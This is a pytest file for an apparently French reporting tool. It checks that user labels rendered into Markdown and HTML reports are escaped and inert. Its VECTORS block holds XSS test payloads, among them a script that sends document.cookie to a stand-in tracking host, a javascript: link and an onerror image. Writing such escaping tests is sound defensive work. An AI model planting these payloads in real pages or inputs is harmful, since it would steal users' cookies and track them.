"""User text reaching a report's Markdown or HTML is inert: no remote image, frame, script or link."""

from __future__ import annotations

import json
import re
from pathlib import Path

from html.parser import HTMLParser

import pandas as pd
import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from analyse.reporting.report import Report, md

VECTORS = {
    "image": "![pixel](https://traceur.example/p.png)",
    "iframe": '<iframe src="https://traceur.example/"></iframe>',
    "javascript": "[cliquer ici](javascript:alert(document.cookie))",
    "script": "<script>fetch('https://traceur.example/'+document.cookie)</script>",
    "raw-html": '<img src=x onerror="alert(1)"><b style="x">gras</b> www.traceur.example https://traceur.example',
}
ALLOWED = {"p", "h3", "strong", "em", "table", "thead", "tbody", "tr", "th", "td", "br", "blockquote", "small",
           "code"}


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.live: list[str] = []

    def handle_starttag(self, tag, attrs):
        for key, value in attrs:
            if key.startswith("on") or (key in ("href", "src") and not (value or "").startswith("#")):
                self.live.append(f"<{tag} {key}={value!r}>")
        if tag == "a" and dict(attrs).get("class") == "anchor-link":
            return      # nbconvert's own heading anchors (href="#…")
        if tag not in ALLOWED:
            self.live.append(f"<{tag}>")


def _live(html_text: str) -> list[str]:
    """Elements and attributes of the HTML that would load, run or link something."""
    parser = _Tags()
    parser.feed(html_text)
    return parser.live


@pytest.mark.parametrize("vector", VECTORS, ids=list(VECTORS))
def test_label_in_a_markdown_heading_renders_as_text(vector):
    label = VECTORS[vector]
    rendered = markdown2html_mistune(f"### ENG.1 — {md(label)}")
    assert not _live(rendered), rendered
    assert "traceur.example" in rendered or "cliquer" in rendered     # shown, as text


@pytest.mark.parametrize("vector", VECTORS, ids=list(VECTORS))
def test_label_in_a_report_table_and_verbatims_is_escaped(vector, tmp_path: Path):
    report = Report(tmp_path, prefix="t")
    frame = pd.DataFrame({"code": ["ENG.1"], "label": [VECTORS[vector]], "role": [VECTORS[vector]],
                          "text": [VECTORS[vector]]})
    shown = report.table(frame, "hostile", caption=VECTORS[vector]).data
    assert not _live(shown), shown
    verb = report.verbatims(frame, meta_columns=("role", "label")).data
    assert not _live(verb), verb


def test_notebooks_pass_every_user_text_through_md():
    """Every Markdown display of the report notebooks escapes the labels, names and coders it shows."""
    root = Path(__file__).resolve().parents[2] / "notebooks"
    for name in ("territoire", "synthese", "accord"):
        nb = json.loads((root / f"{name}.ipynb").read_text(encoding="utf-8"))
        for cell in nb["cells"]:
            src = "".join(cell["source"])
            for call in re.findall(r"Markdown\(f\"(.*?)\"\)", src):
                for expr in re.findall(r"\{([^{}]*(?:\{[^{}]*\}[^{}]*)*)\}", call):
                    if any(k in expr for k in ("labels", "name", "coders", "title", "role")):
                        assert expr.startswith("report.md("), (name, expr)
